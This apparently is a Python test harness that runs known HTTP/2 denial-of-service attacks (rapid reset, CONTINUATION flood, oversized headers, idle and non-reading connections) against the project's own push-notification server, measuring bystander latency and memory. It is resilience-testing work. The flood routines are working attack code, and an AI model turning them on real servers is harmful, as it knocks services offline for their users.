"""The attacks real HTTP/2 servers have fallen to, written against Herald's APNs listeners, plus what
measures them: a bystander provider pushing on its own connection (its latencies) and the server's
resident memory sampled from /proc.

Used by tests/interop/test_http2_attacks.py (a few seconds each, with assertions) and by
scripts/abuse-report (a fixed time each against a release build, printing a table). Each attack
returns an `Outcome`: what Herald did to the attacking connection(s), in a sentence, and figures."""

from __future__ import annotations

import socket
import ssl
import struct
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame

from herald_support import H2Client, alert_payload, new_apns_id
from test_hostile_input import PREFACE, RawH2, flood

ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
               0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
               0x9: "COMPRESSION_ERROR", 0xB: "ENHANCE_YOUR_CALM"}


@dataclass
class Outcome:
    summary: str
    closed: bool = False
    figures: dict = field(default_factory=dict)


def vm_kib(pid: int, key: str) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    raise AssertionError(f"no {key} for {pid}")


class RssSampler(threading.Thread):
    """Samples the server's VmRSS every 50 ms; `peak_kib` is the highest seen."""

    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.pid = pid
        self.start_kib = vm_kib(pid, "VmRSS")
        self.peak_kib = self.start_kib
        self._halt = threading.Event()

    def run(self):
        while not self._halt.wait(0.05):
            try:
                self.peak_kib = max(self.peak_kib, vm_kib(self.pid, "VmRSS"))
            except (OSError, AssertionError):
                return

    def stop(self) -> "RssSampler":
        self._halt.set()
        self.join(2)
        return self


class Bystander(threading.Thread):
    """A well-behaved provider: one connection, one push at a time, each latency recorded."""

    def __init__(self, env, device, url: str | None = None, pause: float = 0.005):
        super().__init__(daemon=True)
        self.env, self.device, self.url, self.pause = env, device, url or env.apns_url, pause
        self.latencies: list[float] = []
        self.failures: list[str] = []
        self.last_id: str | None = None
        self._halt = threading.Event()

    def run(self):
        try:
            with H2Client(self.url, cafile=self.env.ca_path if self.url.startswith("https") else None) as c:
                while not self._halt.is_set():
                    apns_id = new_apns_id()
                    start = time.monotonic()
                    try:
                        st = c.push(self.device.device_token, self.env.headers(apns_id=apns_id),
                                    alert_payload("bystander"))
                    except Exception as e:  # noqa: BLE001 - a failure is what the tests look for
                        self.failures.append(repr(e))
                        return
                    self.latencies.append(time.monotonic() - start)
                    if st.status != 200:
                        self.failures.append(f"{st.status} {st.data[:100]!r}")
                    else:
                        self.last_id = apns_id
                    self._halt.wait(self.pause)
        except Exception as e:  # noqa: BLE001
            self.failures.append(repr(e))

    def stop(self) -> "Bystander":
        self._halt.set()
        self.join(20)
        return self

    def p99_ms(self) -> float:
        if not self.latencies:
            return float("nan")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000


def goaway_text(conn: RawH2) -> str:
    g = conn.goaway()
    return f"GOAWAY({ERROR_NAMES.get(g.error_code, hex(g.error_code))})" if g else "no GOAWAY"


# -- the attacks ------------------------------------------------------------------------------

def rapid_reset(env, device, seconds: float, mode: str = "h2c") -> Outcome:
    """CVE-2023-44487: HEADERS + RST_STREAM(CANCEL) in a loop, on one connection after another."""
    streams, connections, closed_after = 0, 0, []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        conn = RawH2(env, mode)
        connections += 1
        state = {"stream": 1}

        def headers_then_reset() -> bytes:
            out = []
            for _ in range(50):
                sid = state["stream"]
                state["stream"] += 2
                h = HeadersFrame(sid, conn.encoder.encode(conn.request_headers(device.device_token)))
                h.flags.add("END_HEADERS")
                out += [h.serialize(), RstStreamFrame(sid, error_code=0x8).serialize()]
            return b"".join(out)

        try:
            _, closed = flood(conn, headers_then_reset, seconds=max(0.2, deadline - time.monotonic()))
            if closed is None:
                # The server may still be working through what it read: give it 2 s to act on it.
                late = conn.read_until_closed(2)
                closed = None if late is None else seconds + late
        finally:
            conn.close()
        streams += (state["stream"] - 1) // 2
        if closed is None:
            return Outcome(f"held a connection open through {streams} resets", False, {"streams": streams})
        closed_after.append(closed)
        last = goaway_text(conn)
    return Outcome(f"{last} and closed each of {connections} connections after ≤ {max(closed_after) * 1000:.0f} ms "
                   f"({streams // connections} streams each)", True,
                   {"connections": connections, "streams": streams})


def continuation_flood(env, device, seconds: float, mode: str = "h2c") -> Outcome:
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then CONTINUATION frames without end."""
    sent_total, connections, closed_after = 0, 0, []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        conn = RawH2(env, mode)
        connections += 1
        try:
            block = conn.encoder.encode(conn.request_headers(device.device_token))
            conn.send(HeadersFrame(1, block[:8]))
            chunk = ContinuationFrame(1, b"\x00" * 13_000).serialize() * 8
            sent, closed = flood(conn, lambda: chunk, seconds=max(0.2, deadline - time.monotonic()))
        finally:
            conn.close()
        sent_total += sent
        if closed is None:
            return Outcome(f"held the connection open; took {sent_total / 1e6:.0f} MB", False, {"bytes": sent_total})
        closed_after.append(closed)
        last = goaway_text(conn)
    return Outcome(f"{last} and closed each of {connections} connections after ≤ {max(closed_after) * 1000:.0f} ms "
                   f"({sent_total / connections / 1e6:.1f} MB each at most)", True,
                   {"connections": connections, "bytes": sent_total})


def huge_header_list(env, device, seconds: float, mode: str = "h2c", size: int = 1 << 20) -> Outcome:
    """A header list of `size` bytes (64× the advertised SETTINGS_MAX_HEADER_LIST_SIZE of 16 KiB),
    valid HPACK in HEADERS + CONTINUATION frames of 16 KiB, on connection after connection."""
    outcomes: dict[str, int] = {}
    connections = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        conn = RawH2(env, mode)
        connections += 1
        try:
            extra = [(f"x-filler-{i}", "v" * 1000) for i in range(size // 1024)]
            block = conn.encoder.encode(conn.request_headers(device.device_token, extra=extra))
            pieces = [block[i:i + 16_384] for i in range(0, len(block), 16_384)]
            frames = [HeadersFrame(1, pieces[0])] + [ContinuationFrame(1, p) for p in pieces[1:]]
            frames[-1].flags.add("END_HEADERS")
            frames[0].flags.add("END_STREAM")
            try:
                conn.send(*frames)
            except OSError:
                pass
            closed = conn.read_until_closed(2)
            reset = next((f for f in conn.frames if isinstance(f, RstStreamFrame)), None)
            answered = next((f for f in conn.frames if isinstance(f, HeadersFrame)), None)
            if closed is not None:
                what = f"{goaway_text(conn)} and closed"
            elif reset is not None:
                what = f"RST_STREAM({ERROR_NAMES.get(reset.error_code, reset.error_code)})"
            elif answered is not None:
                what = "answered the request"
            else:
                what = "held the connection, no answer"
            outcomes[what] = outcomes.get(what, 0) + 1
        finally:
            conn.close()
    summary = "; ".join(f"{what} ({n} of {connections} connections)" for what, n in outcomes.items())
    return Outcome(summary, all("closed" in w or "RST_STREAM" in w for w in outcomes),
                   {"connections": connections, "outcomes": outcomes})


def idle_connections(env, device, seconds: float, count: int = 2000, mode: str = "h2c") -> Outcome:
    """`count` connections that say nothing (half) or only the preface and SETTINGS (half), held for
    `seconds`; how many the server closed, and how many it refused outright."""
    parts = urlsplit(env.apns_tls_url if mode.startswith("tls") else env.apns_url)
    socks: list[socket.socket] = []
    refused = 0
    try:
        for i in range(count):
            try:
                s = socket.create_connection((parts.hostname, parts.port), timeout=5)
            except OSError:
                refused += 1
                continue
            if i % 2 == 0:
                s.sendall(PREFACE + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
            socks.append(s)
        time.sleep(seconds)
        closed = 0
        for s in socks:
            s.setblocking(False)
            try:
                while True:
                    data = s.recv(1 << 16)
                    if not data:
                        closed += 1
                        break
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
        held = len(socks) - closed
        return Outcome(f"held {held} of {count} connections for {seconds:.0f} s, closed {closed}, refused {refused}",
                       closed + refused > 0, {"held": held, "closed": closed, "refused": refused})
    finally:
        for s in socks:
            s.close()


def slow_reader(env, device, seconds: float, mode: str = "h2c") -> Outcome:
    """A client that advertises a stream window of 0 and never opens it, then sends pushes whose answers
    carry a body (400 BadDeviceToken): every answer's DATA waits in the server for a window that never comes."""
    conn = RawH2(env, mode)
    sent_streams = 0
    try:
        conn.send(b"\x00\x00\x06\x04\x00\x00\x00\x00\x00" + struct.pack(">HI", 0x4, 0))  # INITIAL_WINDOW_SIZE 0
        deadline = time.monotonic() + seconds
        sid = 1
        conn.sock.settimeout(0.5)
        while time.monotonic() < deadline:
            frames = []
            for _ in range(100):
                h = HeadersFrame(sid, conn.encoder.encode(conn.request_headers("00" * 32)))
                h.flags.add("END_HEADERS")
                frames.append(h.serialize())
                frames.append(b"\x00\x00\x02\x00\x01" + struct.pack(">I", sid) + b"{}")
                sid += 2
            try:
                conn.sock.sendall(b"".join(frames))
            except (OSError, ssl.SSLError):
                break
            sent_streams += 100
            if not conn.read(0):
                break
            if sid > 2**31 - 300:
                break
        closed = conn.read_until_closed(1) is not None or conn.eof
        resets = sum(1 for f in conn.frames if isinstance(f, RstStreamFrame))
        heads = sum(1 for f in conn.frames if isinstance(f, HeadersFrame))
        what = f"{goaway_text(conn)} and closed" if closed else "kept the connection"
        return Outcome(f"{what}; {heads} answers' HEADERS sent, {resets} streams reset, of {sent_streams} requests",
                       closed or resets > 0, {"requests": sent_streams, "answers": heads, "resets": resets})
    finally:
        conn.close()


def never_reads(env, device, seconds: float, mode: str = "h2c") -> Outcome:
    """A client that sends pushes (answered 400 with a body) as fast as it can and never reads: the
    answers fill its receive buffer and then the server's send buffer."""
    parts = urlsplit(env.apns_tls_url if mode.startswith("tls") else env.apns_url)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect((parts.hostname, parts.port))
    conn = RawH2.__new__(RawH2)
    conn.env, conn.sock, conn.tls = env, sock, False
    from hpack import Encoder
    conn.encoder, conn.inbuf, conn.frames, conn.eof = Encoder(), b"", [], False
    sock.sendall(PREFACE + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
    sent, sid = 0, 1
    stalled_at = None
    deadline = time.monotonic() + seconds
    sock.settimeout(0.5)
    closed = False
    try:
        while time.monotonic() < deadline:
            frames = []
            for _ in range(50):
                h = HeadersFrame(sid, conn.encoder.encode(conn.request_headers("00" * 32)))
                h.flags.add("END_HEADERS")
                frames.append(h.serialize())
                frames.append(b"\x00\x00\x02\x00\x01" + struct.pack(">I", sid) + b"{}")
                sid += 2
            chunk = b"".join(frames)
            try:
                sock.sendall(chunk)
                sent += len(chunk)
                stalled_at = None
            except socket.timeout:
                stalled_at = stalled_at or time.monotonic()
                if time.monotonic() - stalled_at > 1:
                    break  # the server stopped reading: it does not take more than it can answer
            except OSError:
                closed = True
                break
            if sid > 2**31 - 200:
                break
        requests = (sid - 1) // 2
        what = ("closed the connection" if closed else
                f"stopped reading once its answers backed up (took {sent / 1e6:.1f} MB of requests)"
                if stalled_at else f"kept reading: took {sent / 1e6:.1f} MB of requests")
        return Outcome(what, closed or stalled_at is not None, {"bytes": sent, "requests": requests})
    finally:
        sock.close()


ATTACKS = {
    "rapid reset (HEADERS + RST_STREAM)": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "header list of 1 MiB (64× the limit)": huge_header_list,
    "2,000 idle connections": idle_connections,
    "slow reader (window 0, never opened)": slow_reader,
    "client that never reads": never_reads,
}
